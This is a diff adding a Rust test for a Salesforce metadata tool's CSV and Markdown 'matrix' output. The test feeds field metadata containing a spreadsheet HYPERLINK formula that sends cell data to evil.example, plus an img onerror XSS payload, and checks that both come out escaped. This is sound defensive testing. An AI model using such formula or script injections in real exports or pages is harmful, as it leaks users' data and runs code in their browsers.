@@ -159,3 +159,56 @@ fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
         }
     }
 }
+
+#[test]
+fn hostile_metadata_values_stay_text_in_csv_and_markdown() {
+    let t = TempDir::new("matrix-hostile");
+    t.write(
+        "sfdx-project.json",
+        r#"{"packageDirectories":[{"path":"force-app"}]}"#,
+    );
+    t.write(
+        "force-app/main/default/objects/Contact/fields/SSN__c.field-meta.xml",
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<CustomField xmlns="http://soap.sforce.com/2006/04/metadata">
+    <fullName>SSN__c</fullName>
+    <label>SSN</label>
+    <complianceGroup>=HYPERLINK("http://evil.example/?"&amp;A1,"x")</complianceGroup>
+    <securityClassification>&lt;img src=x onerror=alert(1)&gt;</securityClassification>
+    <type>Text</type>
+</CustomField>
+"#,
+    );
+    t.write(
+        "force-app/main/default/objects/Contact/fields/Tax_Id__c.field-meta.xml",
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<CustomField xmlns="http://soap.sforce.com/2006/04/metadata">
+    <fullName>Tax_Id__c</fullName>
+    <label>Tax Id</label>
+    <complianceGroup>&lt;img src=x onerror=alert(1)&gt;</complianceGroup>
+    <type>Text</type>
+</CustomField>
+"#,
+    );
+    t.write(
+        "force-app/main/default/profiles/Analytics Cloud Integration User.profile-meta.xml",
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<Profile xmlns="http://soap.sforce.com/2006/04/metadata">
+    <custom>false</custom>
+</Profile>
+"#,
+    );
+    let r = run_in(t.path(), &["matrix", "--format", "csv"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let row = r
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("Contact.SSN__c"))
+        .unwrap_or_else(|| panic!("{}", r.stdout));
+    assert!(row.contains(r#""'=HYPERLINK("#), "{row}");
+    assert!(!row.contains(",=HYPERLINK"), "{row}");
+    let r = run_in(t.path(), &["matrix", "--format", "markdown"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stdout.contains("&lt;img src=x"), "{}", r.stdout);
+    assert!(!r.stdout.contains("<img"), "{}", r.stdout);
+}
